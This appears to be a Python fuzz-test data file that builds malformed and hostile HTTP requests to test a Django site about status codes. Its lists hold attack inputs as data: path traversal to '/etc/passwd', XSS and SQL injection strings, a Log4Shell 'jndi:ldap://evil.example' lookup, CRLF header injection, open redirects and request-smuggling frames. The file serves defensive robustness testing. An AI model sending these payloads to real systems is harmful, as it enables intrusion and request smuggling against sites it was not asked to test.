"""What no browser sends: tables of odd addresses, fields, methods, lengths and forms, laid out to be read."""

HTML = "text/html; charset=utf-8"
JSON = "application/json"
PROBLEM = "application/problem+json"
TEXT = "text/plain; charset=utf-8"
MARKDOWN = "text/markdown; charset=utf-8"
# Every kind of address, with the type that its page is declared as. The files with all entries are left out: where a
# request has content that is not read, the connection is closed behind the answer, and the end of one that is larger
# than a socket holds is lost with it. nginx reads such content first.
PAGES = {
    b"/": HTML,
    b"/?standing=registered": HTML,
    b"/4xx/": HTML,
    b"/404/": HTML,
    b"/404/?q=not+found": HTML,
    b"/433/": HTML,
    b"/search/": HTML,
    b"/search/?q=gateway": HTML,
    b"/search/suggest/?q=not": "application/json",
    b"/search/completions/?q=not": "application/x-suggestions+json",
    b"/vs/": HTML,
    b"/vs/401-403/": HTML,
    b"/data/": HTML,
    b"/changes/": HTML,
    b"/feed.atom": "application/atom+xml; charset=utf-8",
    b"/report/?about=/404/": HTML,
    b"/diagnose/": HTML,
    b"/diagnose/?example=response": HTML,
    b"/nope/": HTML,
    b"/404.txt": TEXT,
    b"/404.md": MARKDOWN,
    b"/4xx.txt": TEXT,
    b"/vs/401-403.md": MARKDOWN,
    b"/choose/unique-taken.txt": TEXT,
    b"/choose/404.md": MARKDOWN,
    b"/choose.txt": TEXT,
    b"/choose/ask.md": MARKDOWN,
    b"/choose/ask/start.txt": TEXT,
    b"/codes.txt": TEXT,
    b"/errors.md": MARKDOWN,
    b"/errors/nginx.txt": TEXT,
    b"/404/errors.md": MARKDOWN,
    b"/404/code.md": MARKDOWN,
    b"/grpc.txt": TEXT,
    b"/rules/any.md": MARKDOWN,
    b"/vs.txt": TEXT,
    b"/opensearch.xml": "application/opensearchdescription+xml; charset=utf-8",
    b"/admin/login/": HTML,
    b"/admin/": HTML,
    b"/admin/codes/statuscode/": HTML,
    b"/admin/codes/statuscode/404/change/": HTML,
    b"/admin/autocomplete/": HTML,
    b"/admin/logout/": HTML,
}
TYPES = (
    PAGES
    | {b"/en" + path: kind for path, kind in PAGES.items()}
    | {
        b"/sitemap.xml": "application/xml",
        b"/404.json": JSON,
        b"/4xx.json": JSON,
        b"/433.json": PROBLEM,
        b"/vs/401-403.json": JSON,
        b"/choose/unique-taken.json": JSON,
        b"/choose/404.json": JSON,
        b"/choose.json": JSON,
        b"/choose/ask.json": JSON,
        b"/choose/ask/start.json": JSON,
        b"/errors/nginx.json": JSON,
        b"/errors/nope.json": PROBLEM,
        b"/404/errors.json": JSON,
        b"/404/code.json": JSON,
        b"/grpc.json": JSON,
        b"/rules/any.json": JSON,
        b"/vs.json": JSON,
        b"/codes.csv": "text/csv; charset=utf-8; header=present",
        b"/openapi.json": JSON,
        b"/schema/code.json": "application/schema+json",
        b"/.well-known/api-catalog": 'application/linkset+json; profile="https://www.rfc-editor.org/info/rfc9727"',
        b"/llms.txt": TEXT,
        b"/status/200": TEXT,
        b"/status/404/any/path": TEXT,
        b"/status/503.json": PROBLEM,
        b"/status/206": TEXT,
        b"/status/304": TEXT,
        b"/status/301": TEXT,
        b"/status/200,503:0.2?seed=7&n=3": TEXT,
        b"/status/503?until=%2B30s": TEXT,
        b"/status/499": TEXT,
        b"/robots.txt": "text/plain; charset=utf-8",
        b"/favicon.ico": HTML,
        b"/healthz": "application/json",
        b"/static/favicon.svg": "image/svg+xml",
        b"/static/css/site.css": 'text/css; charset="utf-8"',
        b"/static/js/site.js": 'text/javascript; charset="utf-8"',
        b"/static/icon-512.png": "image/png",
        b"/static/nope.css": HTML,
    }
)
ADDRESSES = list(TYPES)
# Without those whose answer depends on the clock, or on whether the method is GET.
READABLE = [each for each in ADDRESSES if not any(part in each for part in (b"/admin/", b"until", b"/status/206"))]

HOST = b"127.0.0.1"  # always allowed, so that the requests do not depend on the port
EVIL = b"evil.example"
KOREAN = "상태".encode()
TOKEN = b"a" * 32  # of the right form, so that Django goes on to read the form itself


def odd(*texts):
    """Return the texts as bytes; those that are bytes already stay."""
    return [text.encode("latin-1") if isinstance(text, str) else text for text in texts]


# fmt: off

# What is put behind a path, and what in front of it.
TAILS = odd(
    *("%zz", "%", "%F", "%FF", "%C3%28", "%ED%A0%80", "%F4%90%80%80", "%00", "%2500", "%u0041", "%0a", "%0d%0aX:%20y"),
    *("\0", "\xff", "\x80", "\xed\xa0\x80", "\x7f", "\x01", "\t", " ", " x", "<script>", '"', "'", "{}|^`", "#x", ";a=b"),
    *(KOREAN, "%EC%83%81%ED%83%9C/", "٤٠٤/".encode(), "%D9%A4%D9%A0%D9%A4/", "４０４/".encode(), "%EF%BC%94/"),
    *("/", "//", "/..", "/../", "../../etc/passwd", "%2e%2e/", "%2e%2e%2f%2e%2e%2f", "..;/", "./", "/.", "\\", "%5c.."),
    *("a" * 3000, "a" * 9000, "/" * 2000, "a/" * 3000, "%41" * 3000, "%FF" * 3000, "a" * 70_000, "a" * 500_000),
    *("404", "999999999999999999999/", "-1/", "0404/", "404.0/", "1e3/", "index.html", ".git/config", "~", "*"),
)
FRONTS = odd(
    *("/", "//" + EVIL.decode(), "/" + EVIL.decode(), "/en//" + EVIL.decode(), "/en/%2f" + EVIL.decode(), "/en/en"),
    *("\\\\" + EVIL.decode(), "/\\" + EVIL.decode(), "/%5c" + EVIL.decode(), "/%2f%2f" + EVIL.decode(), "/.", "/..", "/%2e%2e"),
    *("/ko", "/EN", "/de", "/static", "/static/..", "/static/%2e%2e", "/static//", "/admin", "/admin//", "", "*", " ", "x"),
    *("http://127.0.0.1", "http://" + EVIL.decode(), "https://" + EVIL.decode(), "http:", "http://", "ftp://x", "//[::1", "http://[::1"),
    *("http://a:b@127.0.0.1", "http://127.0.0.1:99999", "HTTP://127.0.0.1", "javascript:", "127.0.0.1:80"),
)
QUERIES = odd(
    *("?", "??", "?&&&", "?=&=&", "?q", "?q=", "?q=%zz", "?q=%", "?q=%FF", "?q=%ED%A0%80", "?q=%00", "?q=a%00b", "?%00=1", "?q=\0"),
    *("?q=\xff", b"?q=" + KOREAN, "?q=%D9%A4%D9%A0%D9%A4", "?q=%EF%BC%94%EF%BC%90%EF%BC%94", "?q=404", "?q=404&all", "?q=999", "?q=433"),
    *("?q=4xx", "?q=401+403", "?q=%2B404", "?q=4_0_4", "?q=-1", "?q=" + "9" * 1000, "?q=1&q=2&q=3", "?q[]=1", "?q=1;q=2", "?Q=404"),
    *("?q=" + "a" * 1001, "?q=" + "a" * 11_900, "?q=" + "a" * 13_000, "?q=" + "%EA%B0%80" * 1000, "?q=" + "%E3%85%81" * 900),
    *("?q=" + "e%CC%81" * 900, "?q=" + "%CC%81" * 900, "?q=" + "." * 1000, "?q=" + "a+" * 900, "?q=" + "%F0%9F%98%80" * 500),
    *("?q=" + "404+" * 300, "?q=" + "(a%2B)" * 200, "?q=" + "%E2%80%8F" * 900, "?q=%E1%84%80" * 3, "?q=" + "%25" * 900),
    *("?q=%22%3E%3Cscript%3Ealert(1)%3C/script%3E", "?q=%0d%0aSet-Cookie:%20a=b", "?q=http://evil.example/", "?q=../../etc/passwd"),
    *("?q=%7B%7B7*7%7D%7D", "?q='+OR+1=1--", "?q=$%7Bjndi:ldap://evil.example/a%7D", "?q=%5Cu0000", "?q=%C0%80", "?q=%F8%88%80%80%80"),
    *("?standing=nope", "?standing=", "?standing=registered&standing=nope", "?fact=retry&issuer=nginx", "?issuer=%00", "?issuer=" + "x" * 5000),
    *("?p=0", "?p=2", "?p=-1", "?p=x", "?p=" + "9" * 400, "?p=%D9%A2", "?section=codes", "?e=1", "?all=&q=not+found"),
    *("?next=//evil.example/", "?next=/%5Cevil.example/", "?next=https:evil.example", "?next=javascript:alert(1)", "?next=%00", "?next=" + "/" * 3000),
    *("?" + "a=1&" * 900, "?" + "a=1&" * 1001, "?" + "a&" * 3000, "?" + "&" * 5000, "?" + "a" * 70_000, "#a?b", "?a#b"),
    *("?app_label=codes&model_name=statuscode&field_name=category&term=%00", "?_popup=1&_to_field=id", "?number__in=9223372036854775808"),
)
METHODS = odd(
    *"POST PUT PATCH DELETE TRACE TRACK OPTIONS CONNECT PRI FOO PROPFIND PURGE get Get head post gET HEAD M-SEARCH A".split(),
    *("A" * 1000, "G@T", "G\xe9T", "", "GET\0", "\x16\x03\x01\x02\0\x01", "GET ", " GET", "'OR'", "{}"),
)
VERSIONS = odd(
    *"HTTP/1.0 HTTP/1.0 HTTP/0.9 HTTP/1.2 HTTP/2.0 HTTP/2 HTTP/3 HTTP/1.10 HTTP/11 HTTP/9.9 HTTP/1. HTTP/.1 http/1.1 HTTX/1.1".split(),
    *("", "HTTP/1.1 ", "HTTP/1.1 x", "HTTP/1.1\0", "HTTP/ 1.1", "H" * 5000, "HTTP/1,1", "HTTP/-1.1"),
)
# Values of the Host field; None sends none.
HOSTS = [
    None,
    *odd(
        *("", " ", "a b", "evil.example", "evil.example:80", "127.0.0.1:99999", "127.0.0.1:0", "127.0.0.1:abc", "127.0.0.1:", "127.0.0.1."),
        *("localhost", "LOCALHOST", "[::1]", "[::1]:80", "[::1", "::1", "[", "[::1]evil", "user@127.0.0.1", "127.0.0.1@evil.example", "127.1"),
        *("127.0.0.1, evil.example", "127.0.0.1\0", "\0", "\xff", "\xed\xa0\x80", KOREAN, "xn--9i1b4y", "http://127.0.0.1", "127.0.0.1/404/"),
        *("127.0.0.1?x", "127.0.0.1#", "127.0.0.1\\", "%31", "*", ".", "..", "-", "a" * 300, "a" * 60_000, "a." * 2000, "127.0.0.1\t"),
        *("127.0.0.1\r\nHost: 127.0.0.1", "127.0.0.1\r\nHost: evil.example", "evil.example\r\nHost: 127.0.0.1", "127.0.0.1\r\nhost : x"),
    ),
]

CODINGS = odd(
    *("gzip", "br", "gzip, br", "gzip, deflate, br, zstd", "br;q=1.0, gzip;q=0.5", "gzip;q=0", "gzip;q=0, br;q=0", "br;q=0, gzip", "*"),
    *("*;q=0", "identity", "identity;q=0", "identity;q=0, *;q=0", "identity;q=1, *;q=0", "", ",", ";;;", ";q=1", "gzip;q=abc", "gzip;q=2"),
    *("gzip;q=-1", "gzip;q=0.000", "gzip;q=0.0001", "gzip;q=", "gzip;q", "gzip; q = 0", "GZIP", "GZip;Q=0", "x-gzip", "gzipx", "xgzip"),
    *("gzip br", "gzip;br", "gzip;level=9", "gzip\t,\tbr", "\xff", KOREAN, '"gzip"', "gzip;q=nan", "gzip;q=inf", "gzip;q=1e9", "gzip;q=1.0000"),
    *("gzip," * 1000, "br;q=0.1," * 1000, "a" * 20_000, "gzip\r\nAccept-Encoding: br", "gzip;q=0\r\nAccept-Encoding: gzip", "aws-chunked"),
)
# <etag>, <opaque> and <date> stand for what the site itself sent for the address.
MATCHES = odd(
    *("*", '"*"', "**", "<etag>", "W/<opaque>", "<opaque>", "w/<opaque>", '"a", <etag>', '<etag>, "a"', "<etag>,<etag>", "<etag> ", "<etag>x"),
    *('"a"', 'W/"a"', '""', 'W/""', '"', 'W/"', "W/", "abc", "'a'", ",", ",,,", "", '"a" "b"', '"a";"b"', '"\\""', '"a\tb"', '"\xff"'),
    *('"' + "a" * 9000 + '"', '"a", ' * 1000, '"a' * 1000, "*, *", '*, "a"', "<etag>\r\nIf-None-Match: *", KOREAN, '"%00"', '"<script>"', '"a,b"'),
)
DATES = odd(
    *("<date>", "Thu, 01 Jan 1970 00:00:00 GMT", "Fri, 01 Jan 2100 00:00:00 GMT", "Fri, 31 Dec 9999 23:59:59 GMT", "Sunday, 06-Nov-94 08:49:37 GMT"),
    *("Sun Nov  6 08:49:37 1994", "Sun, 06 Nov 1994 08:49:37 +0900", "<date>; length=5", "Thu, 32 Foo 2020 25:61:61 GMT", "Thu, 01 Jan 99999 00:00:00 GMT"),
    *("Thu, 01 Jan 0000 00:00:00 GMT", "Mon, 29 Feb 2023 00:00:00 GMT", "0", "-1", "now", "", ",", ":::", "\xff", "1 1 1 1:1:1", "Thu, 01 Jan", "9" * 5000),
    *("Thu, 01 Jan 1970 00:00:60 GMT", "01 Jan", "00:00", "Thu,", "Jan Jan Jan Jan Jan", "Thu, 01 Jan 1970 00:00:00 " + "+9" * 500, "2020-01-01T00:00:00Z"),
)
RANGES = odd(
    *("bytes=0-0", "bytes=0-", "bytes=-1", "bytes=-0", "bytes=5-2", "bytes=1-99999999", "bytes=999999999-", "bytes=0-0,2-3", "bytes=-", "bytes="),
    *("bytes=a-b", "bytes", "items=0-1", "bytes=--5", "bytes=0-18446744073709551616", "bytes=-18446744073709551616", "bytes 0-1", "bytes=0x1-2"),
    *("bytes=" + "9" * 5000 + "-", "bytes=" + "0-1," * 2000, "Bytes=0-1", "bytes = 0 - 1", "bytes=１-２".encode(), "bytes=\xff", "bytes=1_0-2_0", ""),
)
ACCEPTS = odd(
    *("*/*", "text/html", "application/json", "text/*;q=0", "*/*;q=0", "", ",", ";", "/", "a/b/c", "text/html;q=nan", "\xff", KOREAN, "image/webp"),
    *("text/html," * 2000, "a" * 50_000, "text/html;" * 3000, 'text/html;a="' + "\\" * 5000, "*/*;q=0.1;q=0.2;q=x"),
)
LANGUAGES = odd(
    *("ko", "en", "en-US,en;q=0.9,ko;q=0.8", "*", "zz", "-", "", ",", "en;q=nan", "en;q=9", "\xff", KOREAN, "a-" * 5000, "en," * 10_000, "ko_KR", "../ko"),
)
COOKIES = odd(
    *("a=b", "", ";", "=", ";;;=;=", "a", "sessionid=", "sessionid=x", "sessionid=" + "a" * 32, "sessionid=" + "z" * 5000, "sessionid=%00", "sessionid=\xff"),
    *("csrftoken=", "csrftoken=x", "csrftoken=" + "a" * 32, "csrftoken=" + "a" * 64, "csrftoken=\xff", "csrftoken=%00" + "a" * 29, "django_language=en"),
    *("django_language=../../x", "messages=x", 'messages="[[\\"__json_message\\"]]:x"', "a=" + "b" * 9000, "a=b; " * 500, 'a="b', "a=\x01", "a=\\073", KOREAN),
    *("__Host-sessionid=x", "sessionid=a\r\nCookie: sessionid=b", "$Version=1; a=b", "sessionid=" + "a" * 60_000),
)
PROXIED = odd(
    *("https", "http", "evil.example", "127.0.0.1", "1.2.3.4, 5.6.7.8", "a" * 9000, "", "\xff", "%00", "::1", "[::1]:80", "for=1.2.3.4;proto=https"),
    *("443", "-1", "/404/", "//evil.example/", "DELETE", "unknown", "127.0.0.1, " * 500, "<script>", "a\tb", KOREAN, "\x01"),
)
IDENTIFIERS = odd(
    *("1", "", "a" * 200, "a" * 9000, "\xff", "\xed\xa0\x80", KOREAN, "%0d%0aX: y", "\t", "a b", "<script>", "{}", "${x}", "\x7f", "\x1b[31m", "\0"),
    *("a\nb", "a\rb", "\\n", "../x", "'", '"', "1\r\nX-Request-ID: 2", "0" * 36, "00000000-0000-0000-0000-000000000000", "%s%n", "{0}"),
)
# Python knows charsets that do not decode text, and some that fail in their own ways.
CHARSETS = odd(
    *("utf-8", "utf-16", "utf-7", "euc-kr", "hex", "zip", "base64", "rot13", "idna", "punycode", "undefined", "unicode_escape", "raw_unicode_escape"),
    *("uu", "quopri", "bz2", "mbcs", "oem", "string_escape", "nope", "", '"', "utf-8-sig", "\xff", "a" * 5000, "../x", "utf_32", "iso2022_kr", "hz"),
)
MEDIA = odd(
    *("", ";", "/", "text", "application/json", "multipart/form-data", "multipart/form-data; boundary=", "multipart/form-data; boundary=" + "x" * 5000),
    *("application/x-www-form-urlencoded; " + "a=b; " * 1000, "text/plain; charset*=utf-8''hex", "text/plain; charset*=hex'x'%FF", "\xff", "a" * 9000),
)
HEADERS = (
    [b"Accept-Encoding: " + value for value in CODINGS]
    + [b"Accept: " + value for value in ACCEPTS]
    + [b"Accept-Language: " + value for value in LANGUAGES]
    + [b"Range: " + value for value in RANGES]
    + [b"Cookie: " + value for value in COOKIES]
    + [b"X-Request-ID: " + value for value in IDENTIFIERS]
    + [b"Content-Type: text/plain; charset=" + value for value in CHARSETS]
    + [b"Content-Type: " + value for value in MEDIA]
    + [
        name + b": " + value
        for name in odd(
            *"X-Forwarded-For X-Forwarded-Proto X-Forwarded-Host X-Forwarded-Port Forwarded X-Real-IP X_Forwarded_For".split(),
            *"X-Original-URL X-Rewrite-URL X-HTTP-Method-Override X-Requested-With Script-Name Path-Info Remote-User".split(),
        )
        for value in PROXIED
    ]
    + [name + b": x" for name in odd("", " ", "a b", "a@b", "a(b", "\xff", KOREAN, "a" * 9000, "Proxy", "content_length", "Content_Type", "__proto__")]
    + odd(
        *("Connection: close", "Connection: keep-alive, close", "Connection: host", "Connection: \xff", "Keep-Alive: timeout=-1", "TE: trailers"),
        *("Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==", "Upgrade: x"),
        *("Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQAAP__", "Expect: 100-continue", "Expect: x"),
        *("Authorization: Basic eA==", "Authorization: \xff", "Referer: //evil.example", "Origin: null", "Origin: http://evil.example", "Origin: \xff"),
        *("User-Agent: " + "a" * 9000, "User-Agent: \xff", "Max-Forwards: 0", "Cache-Control: only-if-cached", "Pragma: \xff", "Date: x", "Early-Data: 1"),
        *("A: " + "b" * 20_000, "A: " + "b" * 500_000, "A: b\r\n" * 85 + "A: b", "A: b\r\n" * 200 + "A: b", "A:\r\n" * 2000 + "A:", "A: b\x01", "A: \x7f"),
        *("Sec-Fetch-Site: cross-site", "Access-Control-Request-Method: PUT\r\nOrigin: http://evil.example", "Trailer: Host", "Via: \xff", "A: \xa0"),
    )
)
CONDITIONS = [
    *(b"If-None-Match: " + value for value in MATCHES),
    *(b"If-Match: " + value for value in MATCHES),
    *(b"If-Modified-Since: " + value for value in DATES),
    *(b"If-Unmodified-Since: " + value for value in DATES),
    *(b"If-None-Match: " + value + b"\r\nIf-Modified-Since: <date>" for value in MATCHES[:20]),
    *(b"If-Range: " + value + b"\r\nRange: bytes=0-9" for value in MATCHES[:12] + DATES[:8]),
]
# Behind the first line: how long the body is, and by how many ways of counting.
FRAMES = odd(
    *("Content-Length: 5\r\n\r\nhello", "Content-Length: 0\r\n\r\n", "Content-Length: 00005\r\n\r\nhello", "Content-Length: 5\r\nContent-Length: 5\r\n\r\nhello"),
    *("Content-Length: 5\r\nContent-Length: 6\r\n\r\nhello!", "Content-Length: 5, 5\r\n\r\nhello", "Content-Length: +5\r\n\r\nhello", "Content-Length: -1\r\n\r\n"),
    *("Content-Length: 0x5\r\n\r\nhello", "Content-Length: ５\r\n\r\nhello".encode(), "Content-Length: \r\n\r\n", "Content-Length: 5 5\r\n\r\nhello"),
    *("Content-Length: 99999999999999999999\r\n\r\n", "Content-Length: 18446744073709551615\r\n\r\n", "Content-Length: 9223372036854775807\r\n\r\nx"),
    *("Content-Length: 3\r\n\r\nhello", "Content-Length: 9\r\n\r\nhello", "Content-Length : 5\r\n\r\nhello", "Content-Length\r\n\r\n", " Content-Length: 5\r\n\r\nhello"),
    *("Transfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n", "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n", "Transfer-Encoding: Chunked\r\n\r\n0\r\n\r\n"),
    *("Transfer-Encoding: chunked\r\n\r\n5;a=b\r\nhello\r\n0\r\nA: b\r\n\r\n", "Transfer-Encoding: chunked\r\n\r\n5\r\nhelloX\r\n0\r\n\r\n", "Transfer-Encoding: chunked\r\n\r\nzz\r\n\r\n"),
    *("Transfer-Encoding: chunked\r\n\r\nFFFFFFFFFFFFFFFFF\r\n", "Transfer-Encoding: chunked\r\n\r\n-1\r\n\r\n", "Transfer-Encoding: chunked\r\n\r\n5\nhello\n0\n\n"),
    *("Transfer-Encoding: chunked\r\n\r\n" + "1\r\na\r\n" * 3000 + "0\r\n\r\n", "Transfer-Encoding: chunked\r\n\r\n0" + ";a" * 9000 + "\r\n\r\n"),
    *("Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\nGET /404/ HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n", "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n5c\r\nGET /x"),
    *("Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n", "Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n", "Transfer-Encoding: identity\r\n\r\n", "Transfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n"),
    *("Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n", "Transfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\n", "Transfer-Encoding: chunked\r\nTransfer-Encoding: x\r\n\r\n0\r\n\r\n"),
    *("Transfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\n", "Transfer_Encoding: chunked\r\n\r\n0\r\n\r\n", "X: y\n\n", "X: y\r\r\n\r\n", "X: y\r\n folded\r\n\r\n", "X: y\r\n\tfolded\r\n\r\n"),
    *("X : y\r\n\r\n", "X\r\n\r\n", ": y\r\n\r\n", "X: y\r\nGET /404/ HTTP/1.1\r\n\r\n", "\r\n", "\n", "\r", "X: y\0\r\n\r\n", "X: \r\n\r\n\r\n", "Expect: 100-continue\r\nContent-Length: 5\r\n\r\nhello"),
)
FORM = b"Content-Type: application/x-www-form-urlencoded\r\n"
MULTIPART = b"Content-Type: multipart/form-data; boundary=x\r\n"
PART = b'--x\r\nContent-Disposition: form-data; name="csrfmiddlewaretoken"\r\n\r\n' + TOKEN + b"\r\n"
LOGIN = b"csrfmiddlewaretoken=" + TOKEN
# What is pasted to be read: messages, logs and worse.
PASTED = odd(
    *("HTTP/1.1 200 OK", "HTTP/1.1 200 OK\r\n\0: \0\r\n\r\n\0", "HTTP/9.9 999 x\n:\n", "HTTP/1.1 200 OK\n" + "a:\n" * 50_000, "HTTP/1.1 200 OK\n\n" * 10_000),
    *("HTTP/1.1 200 OK\nContent-Type: application/json\n\n" + "[" * 100_000, "HTTP/1.1 200 OK\nTransfer-Encoding: chunked\n\n" + "f" * 100_000, "< HTTP/1.1 200\n" + "< a\n" * 50_000),
    *("\x1b[31m" * 30_000, "\xff" * 200_000, "x" * 262_144, "x" * 262_145, "\n" * 200_000, "curl " + "'" * 100_000, "<script>alert(1)</script></textarea>", "Status Code\n" * 20_000),
    *('1.2.3.4 - - [x] "GET / HTTP/1.1" 200 1\n' * 5_000, "connect() failed (111: " * 9_000, "2026/11/25 10:01:22 [error] " + '"' * 100_000, '{"status":' * 20_000),
)
# (headers, body) of a form.
FORMS = [
    *((MULTIPART, b'--x\r\nContent-Disposition: form-data; name="text"\r\n\r\n' + text + b"\r\n--x--\r\n") for text in PASTED),
    *((MULTIPART, b'--x\r\nContent-Disposition: form-data; name="file"; filename="a.log"\r\n\r\n' + text + b"\r\n--x--\r\n") for text in PASTED[:6]),
    *((FORM, body) for body in odd("", "a", "=", "&&&", "csrfmiddlewaretoken=", "csrfmiddlewaretoken=%00", "csrfmiddlewaretoken=\xff", "csrfmiddlewaretoken=" + "a" * 64)),
    (FORM, LOGIN),
    (FORM, LOGIN + b"&username=&password="),
    (FORM, LOGIN + b"&username=a%00b&password=c%00d"),
    (FORM, LOGIN + b"&username=%FF&password=%ED%A0%80"),
    (FORM, LOGIN + b"&username=" + b"a" * 5000 + b"&password=x"),
    (FORM, LOGIN + b"&username=nobody&password=" + b"x" * 5000),
    (FORM, LOGIN + b"&username=nobody&password=x&next=//evil.example/"),
    (FORM, LOGIN + b"&username=nobody&username=x&password=x&otp_token=%00&otp_device=x"),
    (FORM, LOGIN + b"&a=1" * 1001),
    (FORM, LOGIN + b"&a=" + b"x" * 3_000_000),
    (FORM, b"\0" * 1000),
    (FORM, b"\xff" * 5_000_000),
    *((b"Content-Type: application/x-www-form-urlencoded; charset=" + charset + b"\r\n", LOGIN + b"&username=%FF") for charset in CHARSETS),
    *((b"Content-Type: multipart/form-data; boundary=x; charset=" + charset + b"\r\n", PART + b"--x--\r\n") for charset in CHARSETS),
    *((b"Content-Type: " + value + b"\r\n", b"--x\r\n\r\n") for value in MEDIA),
    *(
        (MULTIPART, body)
        for body in odd(
            *("", "--x", "--x--", "--x\r\n", "x", "--x\r\n\r\n\r\n--x--", "--y--", "\r\n--x--\r\n", "--x" * 1000, "--x\r\nA: b\r\n" * 500),
            PART + b'--x\r\nContent-Disposition: form-data; name="username"; filename="a\0b"\r\n\r\nx\r\n--x--\r\n',
            PART + b'--x\r\nContent-Disposition: form-data; name="\xff"; filename*=hex\'\'%FF\r\n\r\nx\r\n--x--\r\n',
            PART + b"--x\r\nContent-Disposition: form-data; name*=utf-8''%00\r\nContent-Type: a/b; charset=hex\r\n\r\nx\r\n--x--\r\n",
            PART + b'--x\r\nContent-Disposition: form-data; name="a"\r\nContent-Transfer-Encoding: base64\r\n\r\n====\r\n--x--\r\n',
            PART + b'--x\r\nContent-Disposition: form-data; name="a"; filename="../../x"\r\n\r\n' + b"x" * 5_000_000 + b"\r\n--x--\r\n",
            PART + b'--x\r\nContent-Disposition: form-data; name="a"\r\n\r\nx\r\n' * 1200 + b"--x--\r\n",
            PART + b"--x\r\n" + b"A: b\r\n" * 3000 + b"\r\nx\r\n--x--\r\n",
        )
    ),
    (b"Content-Type: application/json\r\n", b'{"a": "\\ud800"}'),
    (b"", b"x" * 5000),
]
SCRAPS = odd(
    *("\0", "\xff", "\xed\xa0\x80", KOREAN, "%00", "%", "%FF", "\r\n", "\n", "\r", "\r\n\r\n", " ", "\t", ":", ";", ",", '"', "\x7f", "/", "//", "?", "&", "="),
    *("9" * 20, "-1", "A" * 1000, "HTTP/1.1", "Host: a\r\n", "Content-Length: 3\r\n", "Transfer-Encoding: chunked\r\n", "%c0%af", "\x80", "\\"),
)

# fmt: on
